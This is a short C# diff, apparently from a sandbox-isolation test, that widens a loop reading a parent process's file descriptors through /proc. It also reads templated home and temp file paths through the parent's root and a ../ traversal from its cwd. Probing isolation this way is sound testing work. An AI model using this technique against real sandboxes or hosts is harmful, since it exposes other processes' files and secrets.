@@ -12,7 +12,7 @@ string Look()
 {
     int parent = int.Parse(Read("/proc/self/stat").Split(' ')[3]);
     var text = new System.Text.StringBuilder();
-    for (int descriptor = 0; descriptor < 150; descriptor++)
+    for (int descriptor = 0; descriptor < 400; descriptor++)
         text.Append(Read($"/proc/{parent}/fd/{descriptor}"));
     foreach (string path in (string[])["%HOME_FILE%", "%TMP_FILE%"])
         text.Append(Read($"/proc/{parent}/root{path}")).Append(Read($"/proc/{parent}/cwd/../../../../../..{path}"));
